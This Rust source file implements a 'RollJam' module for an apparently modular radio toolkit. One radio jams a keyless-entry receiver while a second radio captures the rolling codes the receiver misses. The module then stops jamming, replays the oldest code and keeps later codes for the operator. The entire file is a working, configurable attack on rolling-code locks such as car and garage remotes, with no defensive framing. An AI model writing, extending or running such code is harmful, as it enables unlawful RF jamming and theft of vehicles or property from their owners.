use serde::{Deserialize, Serialize};
use serde_json::{json, Value};

use crate::hal::{Packet, PartialModemConfig, RadioId, RadioMode};
use crate::pipeline::{args, CommandSpec, Ctx, FieldSpec, FieldType, Module, ModuleError, Verdict};

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case", deny_unknown_fields)]
pub struct RollJamConfig {
    pub listen_radio: String,
    pub jam_radio: String,
    /// Codes to collect before replaying.
    pub repeats: u32,
    /// Jam carrier offset from the target carrier, Hz.
    pub jam_offset: f64,
    /// Jam carrier power, dBm.
    pub jam_power: f64,
}

impl Default for RollJamConfig {
    fn default() -> Self {
        Self { listen_radio: "radioA".into(), jam_radio: "radioB".into(), repeats: 2, jam_offset: 50e3, jam_power: -20.0 }
    }
}

#[derive(Debug, Default, Deserialize)]
#[serde(deny_unknown_fields)]
struct Patch {
    listen_radio: Option<String>,
    jam_radio: Option<String>,
    repeats: Option<u32>,
    jam_offset: Option<f64>,
    jam_power: Option<f64>,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "lowercase")]
enum Phase {
    Idle,
    Jamming,
    Replayed,
}

/// Jams the target receiver while a second radio collects the codes it
/// misses, then stops jamming and replays the oldest capture.
pub struct RollJam {
    cfg: RollJamConfig,
    phase: Phase,
    radios: Option<(RadioId, RadioId)>,
    captured: Vec<Vec<u8>>,
    replayed: Option<Vec<u8>>,
}

impl Default for RollJam {
    fn default() -> Self {
        Self::new(RollJamConfig::default())
    }
}

impl RollJam {
    pub const NAME: &'static str = "rolljam";

    pub fn new(cfg: RollJamConfig) -> Self {
        Self { cfg, phase: Phase::Idle, radios: None, captured: Vec::new(), replayed: None }
    }

    fn status(&self) -> Value {
        json!({
            "phase": self.phase,
            "config": self.cfg,
            "captured": self.captured.iter().map(hex::encode).collect::<Vec<_>>(),
            "replayed": self.replayed.as_ref().map(hex::encode),
        })
    }

    fn start(&mut self, ctx: &mut Ctx) -> Result<(), ModuleError> {
        if self.cfg.listen_radio == self.cfg.jam_radio {
            return Err(ModuleError::Invalid("listen and jam radio must differ".into()));
        }
        if self.cfg.repeats == 0 {
            return Err(ModuleError::Invalid("repeats must be at least 1".into()));
        }
        let listen = ctx.hal.lookup(&self.cfg.listen_radio)?;
        let jam = ctx.hal.lookup(&self.cfg.jam_radio)?;
        let target = ctx.hal.modem_config(listen)?.carrier_freq;
        let p = PartialModemConfig {
            carrier_freq: Some((target + self.cfg.jam_offset).round()),
            tx_power: Some(self.cfg.jam_power),
            ..Default::default()
        };
        ctx.hal.set_modem_config(jam, &p)?;
        // Narrowest filter keeps our own carrier out of the listener.
        let narrow = ctx.hal.radio(listen)?.profile().narrowest_filter();
        ctx.hal.set_modem_config(listen, &PartialModemConfig { rx_bandwidth: Some(narrow), ..Default::default() })?;
        ctx.hal.set_mode(jam, RadioMode::Jam)?;
        ctx.hal.set_mode(listen, RadioMode::Rx)?;
        self.radios = Some((listen, jam));
        self.captured.clear();
        self.replayed = None;
        self.phase = Phase::Jamming;
        Ok(())
    }

    fn stop(&mut self, ctx: &mut Ctx) -> Result<(), ModuleError> {
        if let Some((listen, jam)) = self.radios.take() {
            ctx.hal.set_mode(jam, RadioMode::Idle)?;
            ctx.hal.set_mode(listen, RadioMode::Idle)?;
        }
        self.phase = Phase::Idle;
        Ok(())
    }
}

impl Module for RollJam {
    fn name(&self) -> &str {
        Self::NAME
    }

    fn commands(&self) -> Vec<CommandSpec> {
        vec![
            CommandSpec::bare("start"),
            CommandSpec::bare("stop"),
            CommandSpec::bare("status"),
            CommandSpec::new(
                "set",
                vec![
                    FieldSpec::optional("listen_radio", FieldType::Text),
                    FieldSpec::optional("jam_radio", FieldType::Text),
                    FieldSpec::optional("repeats", FieldType::uint(64)),
                    FieldSpec::optional("jam_offset", FieldType::Float),
                    FieldSpec::optional("jam_power", FieldType::Float),
                ],
            ),
        ]
    }

    fn on_user_command(&mut self, verb: &str, a: &Value, ctx: &mut Ctx) -> Result<Value, ModuleError> {
        match verb {
            "start" => self.start(ctx)?,
            "stop" => self.stop(ctx)?,
            "status" => {}
            "set" => {
                let p: Patch = args(a)?;
                let c = &mut self.cfg;
                c.listen_radio = p.listen_radio.unwrap_or(c.listen_radio.clone());
                c.jam_radio = p.jam_radio.unwrap_or(c.jam_radio.clone());
                c.repeats = p.repeats.unwrap_or(c.repeats);
                c.jam_offset = p.jam_offset.unwrap_or(c.jam_offset);
                c.jam_power = p.jam_power.unwrap_or(c.jam_power);
            }
            other => return Err(ModuleError::UnknownCommand(other.into())),
        }
        Ok(self.status())
    }

    fn on_packet_received(&mut self, pkt: &mut Packet, ctx: &mut Ctx) -> Result<Verdict, ModuleError> {
        let Some((listen, jam)) = self.radios else {
            return Ok(Verdict::Continue);
        };
        if self.phase != Phase::Jamming || pkt.rx_radio != listen.name() {
            return Ok(Verdict::Continue);
        }
        self.captured.push(pkt.data.clone());
        ctx.emit("captured", json!({"index": self.captured.len() - 1, "data": hex::encode(&pkt.data)}));
        if self.captured.len() >= self.cfg.repeats as usize {
            ctx.hal.set_mode(jam, RadioMode::Idle)?;
            // The oldest capture goes out; later ones stay fresh for the user.
            let code = self.captured[0].clone();
            ctx.hal.transmit(listen, &code, 1)?;
            ctx.emit("replayed", json!({"data": hex::encode(&code)}));
            self.replayed = Some(code);
            self.phase = Phase::Replayed;
        }
        Ok(Verdict::Continue)
    }
}
